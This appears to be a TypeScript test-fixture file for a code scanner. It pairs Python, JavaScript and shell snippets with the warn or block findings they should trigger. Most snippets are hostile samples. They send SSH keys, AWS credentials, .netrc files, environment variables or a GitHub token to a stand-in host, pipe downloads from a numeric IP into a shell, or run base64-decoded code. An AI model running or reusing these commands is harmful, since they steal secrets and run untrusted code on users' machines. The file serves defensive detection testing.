/** Code with the findings of warn and block that it has, as `brief` prints them; without any, it is harmless. */
export type FlowCase = readonly [about: string, code: string, expected: readonly string[]];

export const python: readonly FlowCase[] = [
  [
    "a private key that is posted",
    'import requests\nk = open("/home/ann/.ssh/id_rsa").read()\nrequests.post("https://c.evil.io/x", data=k)\n',
    ["block flow-secret-network a.py:3"],
  ],
  [
    "a key read through pathlib and sent by a helper function",
    'from pathlib import Path\nimport requests as r\ndef send(d):\n    r.post("https://c.evil.io", json={"d": d})\nsend((Path.home() / ".aws" / "credentials").read_text())\n',
    ["block flow-secret-network a.py:4"],
  ],
  [
    "the whole environment that is posted",
    'import os, json, urllib.request\nb = json.dumps(dict(os.environ)).encode()\nurllib.request.urlopen("https://c.evil.io", data=b)\n',
    ["block flow-environment-network a.py:3"],
  ],
  [
    "a secret variable for a drop host",
    'import os, requests\nrequests.post("https://webhook.site/1", data=os.environ["API_KEY"])\n',
    ["block flow-secret-drop a.py:2", "block undeclared-drop a.py:2"],
  ],
  [
    "a secret of one service for another",
    'import os, requests\nrequests.post("https://c.evil.io", data=os.environ["AWS_SECRET_ACCESS_KEY"])\n',
    ["block flow-secret-foreign a.py:2"],
  ],
  [
    "decoded code",
    'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n',
    ["block flow-decoded-code a.py:2"],
  ],
  [
    "decoded code by an alias and a split name",
    'import base64 as b\ne = getattr(__builtins__, "ex" + "ec")\np = b.b64decode(open("x").read())\ngetattr(__builtins__, "ex" + "ec")(p)\n',
    ["block flow-decoded-code a.py:4"],
  ],
  [
    "a hidden address",
    'import base64, requests\nrequests.get(base64.b64decode("aHR0cHM6Ly9ldmlsLmlv").decode())\n',
    ["block flow-decoded-host a.py:2"],
  ],
  [
    "downloaded code",
    'import requests\nexec(requests.get("https://x.dev/a").text)\n',
    ["warn flow-download-code a.py:2"],
  ],
  [
    "downloaded code of a numeric host",
    'import requests\nexec(requests.get("http://45.9.148.3/a").text)\n',
    ["block flow-download-code-hostile a.py:2", "warn undeclared-host a.py:2"],
  ],
  [
    "a shell command in a text",
    'import os\nos.system("curl -s http://45.9.148.3/a | sh")\n',
    ["block flow-download-code-hostile a.py:2", "warn undeclared-host a.py:2"],
  ],
  [
    "an API key for its own service",
    'import os, requests\nrequests.get("https://api.x.dev", headers={"k": os.environ["X_API_KEY"]})\n',
    [],
  ],
  [
    "an environment for a child process",
    'import os, subprocess\nsubprocess.run(["ls"], env=os.environ.copy())\n',
    [],
  ],
  ["a decoded image", 'import base64\nopen("a.png", "wb").write(base64.b64decode(d))\n', []],
  [
    "a private key for ssh itself",
    'import paramiko\nc.connect("h.dev", key_filename="/home/ann/.ssh/id_rsa")\n',
    [],
  ],
];

export const script: readonly FlowCase[] = [
  [
    "a private key that is fetched away",
    'import { readFileSync } from "node:fs";\nimport os from "node:os";\nconst k = readFileSync(os.homedir() + "/.ssh/id_rsa");\nawait fetch("https://c.evil.io", { method: "POST", body: k });\n',
    ["block flow-secret-network a.js:4"],
  ],
  [
    "the whole environment in JSON",
    'const https = require("https");\nconst req = https.request("https://c.evil.io");\nreq.write(JSON.stringify(process.env));\n',
    ["block flow-environment-network a.js:3"],
  ],
  ["decoded code", 'eval(atob("YWxlcnQoMSk="));\n', ["block flow-decoded-code a.js:1"]],
  [
    "decoded code of a buffer",
    'new Function(Buffer.from(p, "base64").toString())();\n',
    ["block flow-decoded-code a.js:1"],
  ],
  [
    "downloaded code in a chain",
    'fetch("https://x.dev/a").then((r) => r.text()).then((t) => eval(t));\n',
    ["warn flow-download-code a.js:1"],
  ],
  [
    "a command with a pipe",
    'const { execSync } = require("child_process");\nexecSync("curl http://45.9.148.3/x | bash");\n',
    ["block flow-download-code-hostile a.js:2", "warn undeclared-host a.js:2"],
  ],
  [
    "an API key for its own service",
    'await fetch("https://api.x.dev", { headers: { a: process.env.X_TOKEN } });\n',
    [],
  ],
  [
    "an environment for a child process",
    'require("child_process").spawn("ls", [], { env: { ...process.env } });\n',
    [],
  ],
  [
    "a setting of the environment",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the template belongs to the scanned code.
    'const { PORT = "1" } = process.env;\nawait fetch(`http://localhost:${PORT}`);\n',
    [],
  ],
];

export const shell: readonly FlowCase[] = [
  [
    "a key in a substitution",
    'curl -d "$(cat ~/.ssh/id_rsa)" https://c.evil.io\n',
    ["block flow-secret-network a.sh:1"],
  ],
  [
    "a key through a variable and a pipe",
    'k=$(cat ~/.aws/credentials 2>/dev/null)\necho "$k" | curl -d @- https://c.evil.io\n',
    ["block flow-secret-network a.sh:2"],
  ],
  ["a file upload", "curl -F f=@$HOME/.netrc https://c.evil.io\n", ["block flow-secret-network a.sh:1"]],
  [
    "the whole environment",
    "env | curl -X POST -d @- https://c.evil.io\n",
    ["block flow-environment-network a.sh:1"],
  ],
  [
    "decoded text",
    "echo aGk= | base64 -d | bash\n",
    ["block decoded-shell a.sh:1", "block flow-decoded-code a.sh:1"],
  ],
  ["decoded text in eval", 'eval "$(echo aGk= | base64 -d)"\n', ["block flow-decoded-code a.sh:1"]],
  [
    "a download of an unknown host",
    "curl -fsSL https://get.unknown.dev | sh\n",
    ["warn pipe-to-shell a.sh:1"],
  ],
  [
    "a download through process substitution",
    "bash <(curl -s https://get.unknown.dev/x)\n",
    ["warn pipe-to-shell a.sh:1"],
  ],
  ["a download of a known installer", "curl -LsSf https://astral.sh/uv/install.sh | sh\n", []],
  ["a secret in a name", 'dig "$(echo $GITHUB_TOKEN | base64).c.evil.io"\n', ["block flow-dns a.sh:1"]],
  [
    "files found by name",
    'find / -name "id_rsa*" | while read f; do cat "$f"; done | curl -d @- https://c.evil.io\n',
    ["block flow-secret-network a.sh:1"],
  ],
  ["an API call with a token", 'curl -H "Authorization: Bearer $X_TOKEN" https://api.x.dev\n', []],
  ["a decoded file", "base64 -d a.txt > a.png\n", []],
  ["one variable of many", "env | grep FOO | curl -d @- https://c.x.dev\n", []],
];
